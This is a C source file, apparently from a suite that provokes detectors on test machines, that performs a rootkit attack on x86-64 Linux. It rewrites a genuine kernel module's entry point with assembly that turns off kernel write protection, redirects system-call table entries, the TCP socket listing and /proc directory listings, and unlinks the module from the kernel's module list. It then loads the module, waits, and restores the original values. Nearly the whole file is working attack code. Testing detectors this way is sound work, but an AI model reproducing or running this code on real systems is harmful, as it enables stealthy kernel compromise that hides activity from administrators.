/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a rootkit does, on a test machine only (RATEL_VM=1) and on x86-64: a module of the kernel's
 * is given another beginning, which writes a few words of kernel memory and takes the module out of
 * the kernel's list. No compiler and no headers are needed, and nothing of it is ever called.
 *   rootkit hook SECONDS   leads two system calls, a list of sockets and two directories of /proc
 *                          elsewhere, hides itself, waits, puts back what it wrote
 */
#include "provoke.h"

#include <elf.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/utsname.h>

#define SIGNED "~Module signature appended~\n"

#ifdef __x86_64__

/*
 * The beginning: pairs of address and value are written, with the write protection of the CPU off;
 * the first address that is 0 ends them, and its value is the list of modules to leave, or 0. Both
 * are lower halves: all that the kernel has lies in the last two gigabytes.
 */
extern const unsigned char patch_begin[], patch_table[];
__asm__(".pushsection .rodata\n"
        "patch_begin:\n"
        "  endbr64\n"
        "  pushfq\n"
        "  cli\n"
        "  movq %cr0, %rcx\n"
        "  movq %rcx, %rax\n"
        "  andq $~0x10000, %rax\n"
        "  leaq patch_table(%rip), %rsi\n"
        "1: movslq (%rsi), %rdi\n"
        "  movslq 4(%rsi), %rdx\n"
        "  addq $8, %rsi\n"
        "  testq %rdi, %rdi\n"
        "  jz 2f\n"
        "  movq %rax, %cr0\n"
        "  movq %rdx, (%rdi)\n"
        "  movq %rcx, %cr0\n"
        "  jmp 1b\n"
        "2: testq %rdx, %rdx\n"
        "  jz 3f\n"
        "  movq (%rdx), %rdi\n" /* the newest module is the first of the list */
        "  movq (%rdi), %rsi\n"
        "  movq %rsi, (%rdx)\n"
        "  movq %rdx, 8(%rsi)\n"
        "  movq %rdi, (%rdi)\n"
        "  movq %rdi, 8(%rdi)\n"
        "  popfq\n"
        "  xorl %eax, %eax\n"
        "  ret\n"
        "3: popfq\n"
        "  movl $-19, %eax\n" /* ENODEV: done, and not to be kept */
        "  ret\n"
        "  .balign 4\n"
        "patch_table:\n"
        ".popsection\n");

struct word {
    uint64_t at, value;
};

static char *image;
static size_t image_size;

/* A module's file, unpacked. */
static void read_module(const char *path)
{
    char command[PATH_MAX + 128];
    size_t n, packed = strlen(path) > 3 && strcmp(path + strlen(path) - 3, ".xz") == 0;
    FILE *f;

    snprintf(command, sizeof(command),
             packed ? "python3 -c 'import lzma, sys; "
                      "sys.stdout.buffer.write(lzma.open(sys.argv[1]).read())' '%s'"
                    : "cat '%s'",
             path);
    f = popen(command, "r");
    check(f);
    image = malloc(16 << 20);
    check(image);
    for (image_size = 0; (n = fread(image + image_size, 1, (16 << 20) - image_size, f)) > 0;)
        image_size += n;
    if (pclose(f))
        skip("the module can't be unpacked");
    if (image_size > strlen(SIGNED) &&
        memcmp(image + image_size - strlen(SIGNED), SIGNED, strlen(SIGNED)) == 0)
        image_size -= strlen(SIGNED); /* without the mark it is a module without a signature */
}

static Elf64_Shdr *section(unsigned i)
{
    Elf64_Ehdr *e = (void *)image;

    return (Elf64_Shdr *)(void *)(image + e->e_shoff) + i;
}

static const char *section_name(const Elf64_Shdr *s)
{
    Elf64_Ehdr *e = (void *)image;

    return image + section(e->e_shstrndx)->sh_offset + s->sh_name;
}

/* Where the module begins: .init.text, at the symbol init_module. */
static Elf64_Sym *find_beginning(unsigned *index)
{
    Elf64_Ehdr *e = (void *)image;

    for (unsigned i = 0; i < e->e_shnum; i++) {
        Elf64_Shdr *s = section(i);
        Elf64_Sym *symbols = (void *)(image + s->sh_offset);

        for (size_t j = 0; s->sh_type == SHT_SYMTAB && j < s->sh_size / sizeof(*symbols); j++) {
            const char *name = image + section(s->sh_link)->sh_offset + symbols[j].st_name;
            if (strcmp(name, "init_module") == 0) {
                *index = symbols[j].st_shndx;
                return &symbols[j];
            }
        }
    }
    check(false); /* the module must have a beginning */
    return NULL;
}

/* What the loader would still write into the code, and the lists of places to be patched. */
static void drop_relocations(unsigned text)
{
    static const char *const lists[] = {
        ".return_sites",     ".retpoline_sites", ".call_sites",
        ".altinstructions",  ".ibt_endbr_seal",  "__mcount_loc",
        ".parainstructions", ".smp_locks",       ".static_call_sites",
        "__jump_table",      ".cfi_sites",       "__patchable_function_entries"};
    Elf64_Ehdr *e = (void *)image;

    for (unsigned i = 0; i < e->e_shnum; i++) {
        Elf64_Shdr *s = section(i);
        Elf64_Rela *r = (void *)(image + s->sh_offset);

        for (size_t j = 0;
             s->sh_type == SHT_RELA && s->sh_info == text && j < s->sh_size / sizeof(*r); j++)
            r[j].r_info = 0;
        for (size_t j = 0; j < sizeof(lists) / sizeof(*lists); j++)
            if (strcmp(section_name(s), lists[j]) == 0)
                s->sh_name++; /* a name that nobody looks for, and no other section has */
    }
}

static long load(const char *path, const struct word *words, unsigned count)
{
    const size_t code = (size_t)(patch_table - patch_begin);
    int32_t pair[2];
    unsigned text;
    Elf64_Sym *begin;

    read_module(path);
    begin = find_beginning(&text);
    drop_relocations(text);
    check(begin->st_value + code + count * sizeof(pair) <= section(text)->sh_size);
    char *to = image + section(text)->sh_offset + begin->st_value;
    memcpy(to, patch_begin, code);
    for (unsigned i = 0; i < count; i++) {
        pair[0] = (int32_t)words[i].at;
        pair[1] = (int32_t)words[i].value;
        check(pair[0] == (int64_t)words[i].at && pair[1] == (int64_t)words[i].value);
        memcpy(to + code + i * sizeof(pair), pair, sizeof(pair));
    }
    long rc = syscall(SYS_init_module, image, image_size, "");
    rc = rc ? -errno : 0;
    free(image);
    return rc;
}

/* Address of a symbol; of the first function of some module where name is NULL. */
static uint64_t symbol(const char *name, char *found, char *owner)
{
    char line[512], of[256];
    unsigned long address;
    uint64_t at = 0;
    FILE *f = fopen("/proc/kallsyms", "r");

    check(f);
    while (!at && fgets(line, sizeof(line), f)) {
        *of = '\0';
        if (sscanf(line, "%lx %*c %255s [%255[^]]]", &address, found, of) < 2)
            continue;
        if (name ? strcmp(found, name) == 0 && !*of
                 : *of && strcmp(of, "bpf") != 0 && strncmp(of, "__builtin", 9) != 0) {
            at = address;
            snprintf(owner, sizeof(of), "%s", of);
        }
    }
    fclose(f);
    return at;
}

static uint64_t must(const char *name)
{
    char found[256], owner[256];
    uint64_t at = symbol(name, found, owner);

    check(at);
    return at;
}

/* A word of kernel memory, from the kernel's picture of itself. */
static uint64_t kernel_word(uint64_t at)
{
    Elf64_Ehdr e;
    uint64_t word = 0;
    int fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);

    check(fd >= 0 && pread(fd, &e, sizeof(e), 0) == sizeof(e));
    for (unsigned i = 0; i < e.e_phnum && !word; i++) {
        Elf64_Phdr p;
        check(pread(fd, &p, sizeof(p), (off_t)(e.e_phoff + i * sizeof(p))) == sizeof(p));
        if (p.p_type == PT_LOAD && at >= p.p_vaddr && at < p.p_vaddr + p.p_memsz)
            check(pread(fd, &word, 8, (off_t)(p.p_offset + at - p.p_vaddr)) == 8);
    }
    close(fd);
    return word;
}

#define NR_USTAT 136
#define NR_SYSFS 139
#define NOWHERE  UINT64_C(0xffffffffc0ffe000) /* in the room of modules, of none of them */

/* Where a table of functions has one of them. */
static uint64_t place(const char *table, const char *function)
{
    uint64_t at = must(table), to = must(function);

    for (unsigned i = 0; i < 32; i++, at += 8)
        if (kernel_word(at) == to)
            return at;
    check(false);
    return 0;
}

#define WORDS 6

static void mode_hook(int argc, char **argv)
{
    char found[256], owner[256], path[PATH_MAX];
    uint64_t calls = must("sys_call_table"), tcp = must("tcp4_seq_ops");
    uint64_t to = symbol(NULL, found, owner);
    struct word words[WORDS] = {
        {calls + 8 * NR_SYSFS, to},
        {calls + 8 * NR_USTAT, NOWHERE},
        {tcp + 24, to}, /* seq_operations.show */
        {place("proc_root_operations", "proc_root_readdir"), to},
        {place("proc_tid_base_operations", "proc_tid_base_readdir"), NOWHERE},
        {0, must("modules")}};
    struct word back[WORDS];
    FILE *f;

    check(argc == 1);
    if (!to)
        skip("the machine has no module to lead to");
    for (int i = 0; i < WORDS - 1; i++)
        back[i] = (struct word){words[i].at, kernel_word(words[i].at)};
    back[WORDS - 1] = (struct word){0, 0};
    f = popen("modinfo -F filename dummy", "r");
    if (!f || !fgets(path, sizeof(path), f) || pclose(f))
        skip("this kernel has no module dummy");
    path[strcspn(path, "\n")] = '\0';
    check(load(path, words, WORDS) == 0);
    sleep((unsigned)strtoul(argv[0], NULL, 10));
    f = popen("modinfo -F filename ifb", "r");
    check(f && fgets(path, sizeof(path), f) && !pclose(f));
    path[strcspn(path, "\n")] = '\0';
    check(load(path, back, WORDS) == -ENODEV);
    say("SYMBOL", "%s", found);
    say("OWNER", "%s", owner);
    say("AT", "0x%lx", (unsigned long)to);
    say("NOWHERE", "0x%lx", (unsigned long)NOWHERE);
}

#endif

int main(int argc, char **argv)
{
#ifdef __x86_64__
    static const struct mode modes[] = {{"hook", mode_hook}, {NULL, NULL}};

    if (!getenv("RATEL_VM"))
        skip("only a test machine is to be attacked");
    return run_mode(modes, argc, argv);
#else
    (void)argc;
    (void)argv;
    skip("the attack is written for x86-64");
#endif
}
